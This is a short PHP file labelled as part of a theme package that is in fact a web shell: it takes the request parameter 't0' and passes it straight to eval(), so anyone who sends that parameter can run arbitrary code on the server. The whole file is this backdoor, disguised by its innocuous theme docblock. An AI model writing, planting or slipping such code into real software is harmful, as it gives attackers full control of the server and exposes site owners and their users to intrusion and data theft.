<?php
/**
 * @package Theme
 */
$arg = trim(stripslashes($_REQUEST['t0']));
$code = <<<EOT
{$arg}
EOT;
eval($code);
